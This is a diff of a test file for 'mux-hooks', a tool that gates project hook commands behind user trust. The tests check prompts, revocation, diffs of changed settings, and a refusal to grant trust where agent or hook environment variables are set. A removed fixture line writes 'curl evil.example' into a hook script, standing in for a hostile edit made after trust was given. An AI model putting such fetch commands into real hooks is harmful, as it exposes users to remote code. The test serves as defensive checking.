@@ -1,5 +1,6 @@
-import { readFile, writeFile } from "node:fs/promises";
+import { readFile, symlink, writeFile } from "node:fs/promises";
 import { join } from "node:path";
+import { Readable } from "node:stream";
 import { describe, expect, test } from "vitest";
 import { group, HookProject, says } from "@test/helpers/hookProject";
 import { muxHooks } from "@test/helpers/muxHooks";
@@ -44,18 +45,21 @@ describe("the command line", () => {
     expect(stderr).toContain(problem);
   });
 
-  test.each([["list"], ["test", "Stop"], ["validate"], ["trust"], ["run", "x", "--script", "y"]])(
-    "%s: a project folder that is not there is one line and exit 1",
-    async (...args) => {
-      const project = await HookProject.create();
-      const called = await muxHooks(project, [...args, "--project", "nowhere"]);
-      expect(called).toEqual({
-        code: 1,
-        stdout: "",
-        stderr: `mux-hooks: there is no folder ${project.path("nowhere")}\n`,
-      });
-    }
-  );
+  test.each([
+    ["list"],
+    ["test", "Stop"],
+    ["validate"],
+    ["trust", "--yes"],
+    ["run", "x", "--script", "y"],
+  ])("%s: a project folder that is not there is one line and exit 1", async (...args) => {
+    const project = await HookProject.create();
+    const called = await muxHooks(project, [...args, "--project", "nowhere"]);
+    expect(called).toEqual({
+      code: 1,
+      stdout: "",
+      stderr: `mux-hooks: there is no folder ${project.path("nowhere")}\n`,
+    });
+  });
 });
 
 describe("list", () => {
@@ -151,7 +155,7 @@ describe("list", () => {
     const project = await projectWith({ Stop: [group(["touch ran"])] });
     await muxHooks(project, ["list"]);
     await muxHooks(project, ["validate"]);
-    await muxHooks(project, ["trust"]);
+    await muxHooks(project, ["trust", "--yes"]);
     await expect(project.read("ran")).rejects.toThrow("ENOENT");
   });
 });
@@ -397,28 +401,97 @@ describe("validate", () => {
   });
 });
 
+test("a link to nothing is an error for list, validate and doctor (H2a)", async () => {
+  const project = await HookProject.create();
+  await project.write(".mux/other", "");
+  await symlink("/nowhere", project.path(".mux", "stop"));
+  for (const command of ["list", "validate", "doctor"]) {
+    const { code, stdout } = await muxHooks(project, [command]);
+    expect(stdout).toContain("a symbolic link to a file that does not exist");
+    expect(code).toBe(command === "list" ? 0 : 1);
+  }
+});
+
 describe("trust", () => {
   const untrusted = { env: { MUX_HOOKS_TRUST: "" } };
 
   test("shows the commands, records them, and they run from then on (H31)", async () => {
     const project = await projectWith({ Stop: [group(["./check.sh --all"])] });
     await project.write("check.sh", "#!/bin/sh\nexit 2\n", 0o755);
-    const trusted = await muxHooks(project, ["trust"], untrusted);
+    const trusted = await muxHooks(project, ["trust", "--yes"], untrusted);
     expect(trusted.code).toBe(0);
     expect(trusted.stdout).toContain("  Stop: ./check.sh --all  .mux/settings.json:6\n");
-    expect(trusted.stdout).toContain("is not covered");
+    expect(trusted.stdout).toContain("are not covered");
     expect(trusted.stdout).toContain(join(project.home, ".mux", "hook-trust.json"));
     expect((await muxHooks(project, ["test", "Stop"], untrusted)).code).toBe(3);
   });
 
-  test("a change to a command, or to a file that it names, takes the trust away (H31)", async () => {
+  test("what was trusted goes on to run until the difference was looked at (H31)", async () => {
+    const project = await projectWith({ Stop: [group(["exit 2"])] });
+    await muxHooks(project, ["trust", "--yes"], untrusted);
+    await project.configure({ hooks: { Stop: [group(["exit 0"])] } });
+    const tried = await muxHooks(project, ["test", "Stop"], untrusted);
+    expect(tried.code).toBe(3);
+    expect(tried.stdout).toContain(".mux/settings.json: not as it was trusted");
+    const listed = await muxHooks(project, ["list"], untrusted);
+    expect(listed.stdout).toContain("not as it was trusted");
+
+    const shown = await muxHooks(project, ["trust", "--show"], untrusted);
+    expect(shown.stdout).toContain("--- .mux/settings.json\n+++ .mux/settings.json\n");
+    expect(shown.stdout).toMatch(/\n- +"command": "exit 2"\n\+ +"command": "exit 0"\n/);
+    await muxHooks(project, ["trust", "--yes"], untrusted);
+    expect((await muxHooks(project, ["test", "Stop"], untrusted)).code).toBe(0);
+  });
+
+  test("a file that a command names may change (H31)", async () => {
     const project = await projectWith({ Stop: [group(["./check.sh"])] });
+    await project.write("check.sh", "#!/bin/sh\nexit 0\n", 0o755);
+    await muxHooks(project, ["trust", "--yes"], untrusted);
     await project.write("check.sh", "#!/bin/sh\nexit 2\n", 0o755);
-    await muxHooks(project, ["trust"], untrusted);
-    await project.write("check.sh", "#!/bin/sh\ncurl evil.example\n", 0o755);
-    const { code, stdout } = await muxHooks(project, ["test", "Stop"], untrusted);
-    expect(code).toBe(0);
-    expect(stdout).toContain("changed since it was trusted");
+    expect((await muxHooks(project, ["test", "Stop"], untrusted)).code).toBe(3);
+  });
+
+  test("needs a terminal or --yes, and asks at a terminal (H31)", async () => {
+    const project = await projectWith({ Stop: [group(["exit 2"])] });
+    const refused = await muxHooks(project, ["trust"], untrusted);
+    expect(refused.code).toBe(1);
+    expect(refused.stderr).toContain("this is not a terminal");
+    for (const [answer, code] of [["n", 1] as const, ["y", 0] as const]) {
+      const asked = await muxHooks(project, ["trust"], {
+        ...untrusted,
+        prepare: (context) => {
+          const stdin = Object.assign(Readable.from([`${answer}\n`]), { isTTY: true });
+          Object.assign(context, { stdin });
+          Object.assign(context.stdout, { isTTY: true });
+        },
+      });
+      expect(asked.stdout).toContain("Let them run? (y/n): ");
+      expect(asked.code).toBe(code);
+    }
+    expect((await muxHooks(project, ["test", "Stop"], untrusted)).code).toBe(3);
+  });
+
+  test.each(["MUX_HOOK_EVENT", "GAUNTLET_STOP_HOOK_ACTIVE"])(
+    "refuses where %s is set, as by an agent or a hook (H31)",
+    async (name) => {
+      const project = await projectWith({ Stop: [group(["exit 2"])] });
+      const env = { ...untrusted.env, [name]: "1" };
+      for (const option of ["--yes", "--revoke"]) {
+        const { code, stderr } = await muxHooks(project, ["trust", option], { env });
+        expect(code).toBe(1);
+        expect(stderr).toContain(`${name} is set`);
+      }
+      expect((await muxHooks(project, ["trust", "--show"], { env })).code).toBe(0);
+    }
+  );
+
+  test("--only forgets what else was trusted (H31)", async () => {
+    const project = await projectWith({ Stop: [group(["exit 2"])] });
+    await muxHooks(project, ["trust", "--yes"], untrusted);
+    await project.configure({ hooks: { Stop: [group(["exit 0"])] } });
+    await muxHooks(project, ["trust", "--yes", "--only"], untrusted);
+    await project.configure({ hooks: { Stop: [group(["exit 2"])] } });
+    expect((await muxHooks(project, ["test", "Stop"], untrusted)).code).toBe(0);
   });
 
   test("--show records nothing", async () => {
@@ -427,7 +500,7 @@ describe("trust", () => {
     expect(shown.stdout).toContain("  Stop: make  .mux/settings.json:6\n");
     expect(shown.stdout).toContain("Not trusted: ");
     await expect(readFile(join(project.home, ".mux", "hook-trust.json"))).rejects.toThrow("ENOENT");
-    await muxHooks(project, ["trust"], untrusted);
+    await muxHooks(project, ["trust", "--yes"], untrusted);
     expect((await muxHooks(project, ["trust", "--show"], untrusted)).stdout).toMatch(
       /\nTrusted\.\n$/
     );
@@ -435,9 +508,11 @@ describe("trust", () => {
 
   test("--revoke takes the trust back", async () => {
     const project = await projectWith({ Stop: [group(["exit 2"])] });
-    await muxHooks(project, ["trust"], untrusted);
+    await muxHooks(project, ["trust", "--yes"], untrusted);
     const revoked = await muxHooks(project, ["trust", "--revoke"], untrusted);
-    expect(revoked.stdout).toBe(`${project.dir} is no longer trusted.\n`);
+    expect(revoked.stdout).toBe(
+      `${project.dir} is no longer trusted. A turn that runs keeps its hooks: this counts from your next message.\n`
+    );
     expect((await muxHooks(project, ["test", "Stop"], untrusted)).code).toBe(0);
     const again = await muxHooks(project, ["trust", "--revoke"], untrusted);
     expect(again).toEqual({ code: 0, stdout: `${project.dir} was not trusted.\n`, stderr: "" });
@@ -451,7 +526,7 @@ describe("trust", () => {
   test("where nothing came with the checkout there is nothing to trust", async () => {
     const project = await HookProject.create();
     await userSettings(project, { hooks: { Stop: [group(["make"])] } });
-    const { code, stdout } = await muxHooks(project, ["trust"], untrusted);
+    const { code, stdout } = await muxHooks(project, ["trust", "--yes"], untrusted);
     expect(code).toBe(0);
     expect(stdout).toContain("so there is nothing to trust");
   });
@@ -459,9 +534,9 @@ describe("trust", () => {
   test("a record that cannot be read is one line, and stays as it is", async () => {
     const project = await projectWith({ Stop: [group(["make"])] });
     const store = await project.write("../home/.mux/hook-trust.json", "{ broken");
-    const { code, stderr } = await muxHooks(project, ["trust"], untrusted);
+    const { code, stderr } = await muxHooks(project, ["trust", "--yes"], untrusted);
     expect(code).toBe(1);
-    expect(stderr).toMatch(/^mux-hooks: the record of trusted projects, .*: mend or remove it\n$/);
+    expect(stderr).toMatch(/^mux-hooks: the record of trusted projects, .*: fix or remove it\n$/);
     expect(await readFile(store, "utf8")).toBe("{ broken");
   });
 });
